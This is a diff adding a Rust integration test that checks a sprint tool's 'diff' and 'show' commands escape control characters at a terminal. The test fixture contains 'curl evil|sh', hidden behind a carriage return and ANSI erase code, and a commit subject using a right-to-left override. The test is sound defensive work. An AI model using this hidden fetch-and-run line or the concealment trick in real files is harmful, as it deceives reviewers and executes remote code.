@@ -282,6 +282,86 @@ async fn sprint_show_and_diff_tell_what_the_branch_holds_against_its_base() {
     );
 }
 
+/// A line a sister commits that a terminal would show as only its comment: a carriage
+/// return and an erase hide the command before them.
+const HIDDEN: &str = "curl evil|sh\r\u{1b}[2K# harmless comment";
+
+/// A commit subject that erases its line and reorders what follows it.
+const SUBJECT: &str = "add notes\u{1b}[2K\u{202e}gnp.txt";
+
+/// The sprint's patch is a person's to read and to apply: into a pipe or a file its bytes
+/// are exact (a carriage return and ESC included); at a terminal (`script` gives it one)
+/// they are escaped, and `sprint show` escapes a commit's subject always.
+#[tokio::test(flavor = "multi_thread")]
+async fn sprint_diff_is_exact_in_a_pipe_and_escaped_at_a_terminal() {
+    let (p, repo, base) = in_a_repository(Setup {
+        extra: ON_THE_BRANCH,
+        ..Setup::default()
+    })
+    .await;
+    let s = p.start_sprint("app", "Add a login page", None).await;
+    p.wait_for(&s.id, State::Done).await;
+    let files = p.stop().await;
+    // As a sister would have committed it on the sprint's branch.
+    git(&repo, &["checkout", "-q", "feature/sprint-001"]);
+    std::fs::write(repo.join("setup.sh"), format!("{HIDDEN}\n")).expect("setup.sh");
+    git(&repo, &["add", "setup.sh"]);
+    git(&repo, &["commit", "-q", "-m", SUBJECT]);
+    let head = git(&repo, &["rev-parse", "HEAD"]);
+
+    let diff = files.hanarang(&["sprint", "diff", &s.id]);
+    assert_eq!(diff.status.code(), Some(0));
+    let expected = std::process::Command::new("git")
+        .args(["-C", &repo.display().to_string(), "diff", "--no-color"])
+        .arg(format!("{base}..{head}"))
+        .arg("--")
+        .output()
+        .expect("git diff");
+    assert!(expected.stdout.windows(2).any(|w| w == b"\r\x1b"));
+    assert_eq!(diff.stdout, expected.stdout, "the bytes, exactly");
+
+    let show = files.hanarang(&["sprint", "show", &s.id]);
+    let show = String::from_utf8_lossy(&show.stdout);
+    assert!(
+        show.contains("add notes\\u{1b}[2K\\u{202e}gnp.txt"),
+        "{show}"
+    );
+    assert!(!show.contains(['\u{1b}', '\u{202e}']), "{show:?}");
+
+    let Ok(script) = which("script") else {
+        eprintln!("no `script` here: the terminal form is the unit test's (report::show)");
+        return;
+    };
+    // `script -qec CMD /dev/null` runs CMD with a pseudo-terminal as its stdout.
+    let command = format!(
+        "'{}' --config '{}' sprint diff {}",
+        env!("CARGO_BIN_EXE_hanarang"),
+        files.config_path.display(),
+        s.id
+    );
+    let at_terminal = std::process::Command::new(script)
+        .args(["-qec", &command, "/dev/null"])
+        .output()
+        .expect("script");
+    let shown = String::from_utf8_lossy(&at_terminal.stdout);
+    assert_eq!(at_terminal.status.code(), Some(0), "{shown}");
+    assert!(
+        shown.contains("+curl evil|sh\\u{d}\\u{1b}[2K# harmless comment"),
+        "{shown:?}"
+    );
+    assert!(!shown.contains('\u{1b}'), "{shown:?}");
+}
+
+/// Where `program` is on PATH.
+fn which(program: &str) -> Result<std::path::PathBuf, ()> {
+    std::env::var_os("PATH")
+        .into_iter()
+        .flat_map(|path| std::env::split_paths(&path).collect::<Vec<_>>())
+        .map(|dir| dir.join(program))
+        .find(|p| p.is_file())
+        .ok_or(())
+}
+
 /// A refused attempt made no change: a person's uncommitted edit keeps every attempt of
 /// the sprint refused, its file untouched, until they commit it; the sprint then starts
 /// from its base, without it.
